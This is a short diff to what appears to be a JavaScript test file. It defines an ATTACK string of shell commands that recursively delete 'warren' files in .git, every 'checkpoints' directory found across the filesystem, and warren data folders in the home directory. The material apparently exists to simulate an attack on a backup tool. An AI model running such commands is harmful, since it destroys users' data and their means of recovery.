@@ -51,7 +51,7 @@ const ATTACK = [
   // Anything of warren's in the repository, and wherever else the vault could be.
   "find .git -iname '*warren*' -prune -exec rm -rf {} +",
   "find / -xdev -maxdepth 6 \\( -path /proc -o -path /sys \\) -prune -o -type d -name checkpoints -print 2>/dev/null" +
-    " | while read d; do rm -rf \"$d\"; done",
+    ' | while read d; do rm -rf "$d"; done',
   "rm -rf ~/.local/share/warren ~/.warren",
   "echo attack done",
 ].join("; ");
